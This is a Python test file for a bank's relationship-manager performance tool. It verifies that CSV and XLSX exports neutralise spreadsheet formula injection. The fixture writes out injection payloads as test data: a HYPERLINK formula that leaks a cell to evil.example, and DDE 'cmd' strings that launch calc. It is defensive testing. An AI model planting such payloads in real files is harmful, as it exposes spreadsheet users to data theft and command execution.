"""No export carries a live formula (issue 12, item 6).

A careless or hostile export from the HR system names RMs and a sub-branch with text a spreadsheet
would run: ``=HYPERLINK(…)`` that leaks a cell's contents to a web address, ``+cmd|…`` (DDE),
``@SUM(…)``, ``-2+3``, and gives one RM an id beginning with ``=``. The performance office imports
it, runs the quarter and the year, posts pay and writes every file rmperf produces — indicators,
results, grades, consequences, the pay sheet, in CSV and XLSX. Every workbook is scanned for formula
elements (``<f>``) and for text cells beginning with a formula character (but for a plain decimal
number such as ``-12.50``); every CSV for cells that do; the hostile names are there, as text.
"""

from __future__ import annotations

import csv
import html
import re
import shutil
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from rmperf.tabular import FORMULA_START, escape_text, write_csv
from tests.cli.test_cli import rmperf, targets_csv, tiny_rms

HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)
HOSTILE_ORG = "=1+1支行"
HOSTILE_ID = "=R1+R2"


@pytest.fixture(scope="module")
def hostile(tiny_package: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """(home, package): the tiny bank with hostile names and one hostile RM id, imported and run."""
    root = tmp_path_factory.mktemp("hostile")
    package = root / "pkg"
    shutil.copytree(tiny_package, package)
    managers = list(csv.DictReader((package / "managers.csv").open(encoding="utf-8")))
    victim = managers[-1]["rm_id"]
    for row, name in zip(managers, HOSTILE_NAMES, strict=False):
        row["name"] = name
    with (package / "managers.csv").open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(managers[0]))
        writer.writeheader()
        writer.writerows(managers)
    for table in package.glob("*.csv"):  # the last RM's id, everywhere it is used
        text = table.read_text(encoding="utf-8")
        table.write_text(re.sub(rf"\b{victim}\b", HOSTILE_ID, text), encoding="utf-8")
    orgs = list(csv.DictReader((package / "orgs.csv").open(encoding="utf-8")))
    next(o for o in orgs if o["level"] == "subbranch")["name"] = HOSTILE_ORG
    with (package / "orgs.csv").open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(orgs[0]))
        writer.writeheader()
        writer.writerows(orgs)
    home = root / "home"
    done = rmperf("import", str(package), home=home)
    assert done.returncode == 0, done.stderr
    return home, package


def ok(*args: str, home: Path) -> str:
    done = rmperf(*args, home=home)
    assert done.returncode == 0, done.stdout + done.stderr
    return done.stdout


def every_export(home: Path, package: Path, out: Path) -> list[Path]:
    """Every file rmperf writes for people, each in CSV and XLSX."""
    targets = targets_csv(out / "targets.csv", tiny_rms(package))
    runs = {}
    for scheme, period in (
        ("retail-wealth-2007", "2025"),
        ("rural-2023", "2025-Q1"),
        ("rural-2023", "2025"),
    ):
        extra = ["--targets", str(targets)] if scheme == "rural-2023" else []
        runs[scheme, period] = int(ok("run", "--scheme", scheme, "--period", period, *extra, home=home).split()[-1])
    year = runs["retail-wealth-2007", "2025"]
    ok("pay", "--run", str(year), "--user", "考核办", home=home)
    files = []
    for fmt in ("csv", "xlsx"):
        files += [out / f"indicators.{fmt}", out / f"results.{fmt}", out / f"grades.{fmt}"]
        files += [out / f"consequences.{fmt}", out / f"paysheet.{fmt}"]
        ok("indicators", "--period", "2025-Q1", "--out", str(out / f"indicators.{fmt}"), home=home)
        for run in runs.values():
            ok("results", "--run", str(run), "--format", fmt, "--out", str(out / f"results-{run}.{fmt}"), home=home)
        shutil.copy(out / f"results-{year}.{fmt}", out / f"results.{fmt}")
        ok("grades", "--period", "2025", "--out", str(out / f"grades.{fmt}"), home=home)
        ok("consequences", "--period", "2025", "--out", str(out / f"consequences.{fmt}"), home=home)
        ok("paysheet", "--run", str(year), "--format", fmt, "--out", str(out / f"paysheet.{fmt}"), home=home)
    files += sorted(out.glob("results-*.*"))
    return files


def xlsx_texts(path: Path) -> Iterator[str]:
    """Every text of a workbook's cells (shared and inline strings); fails on any formula element."""
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if not name.endswith(".xml"):
                continue
            xml = z.read(name).decode("utf-8")
            if name.startswith("xl/worksheets/"):
                assert not re.search(r"<f[ >]", xml), f"a formula in {path.name}:{name}"
            if name == "xl/sharedStrings.xml" or name.startswith("xl/worksheets/"):
                for text in re.findall(r"<t(?: [^>]*)?>([^<]*)</t>", xml):
                    yield html.unescape(text)


def csv_texts(path: Path) -> Iterator[str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        for row in csv.reader(fh):
            yield from row


def is_number(text: str) -> bool:
    return re.fullmatch(r"[+-]?\d+(\.\d+)?", text) is not None


def test_no_export_carries_a_live_formula(hostile: tuple[Path, Path], tmp_path: Path) -> None:
    home, package = hostile
    files = every_export(home, package, tmp_path)
    seen: set[str] = set()
    for path in files:
        texts = list(xlsx_texts(path) if path.suffix == ".xlsx" else csv_texts(path))
        assert texts, path
        for text in texts:
            starts_live = bool(text) and text[0] in FORMULA_START
            assert not starts_live or is_number(text), (path.name, text)
            seen.update(t for t in (*HOSTILE_NAMES, HOSTILE_ORG, HOSTILE_ID) if text == escape_text(t))
    # the hostile texts did reach the exports, escaped
    assert seen == {*HOSTILE_NAMES, HOSTILE_ORG, HOSTILE_ID}


def test_the_writer_escapes_text_keeps_numbers_and_leaves_no_partial_file(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    write_csv(path, ["name", "value"], [("=1+2", "-12.50"), ("@x", 3), ("-x", None)])
    assert list(csv_texts(path)) == ["name", "value", "'=1+2", "-12.50", "'@x", "3", "'-x", ""]

    def broken() -> Iterator[tuple[str, str]]:
        yield ("a", "1")
        raise RuntimeError("the data ran out")

    with pytest.raises(RuntimeError):
        write_csv(path, ["name", "value"], broken())
    assert list(csv_texts(path))[2:4] == ["'=1+2", "-12.50"]  # the earlier file stands
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]
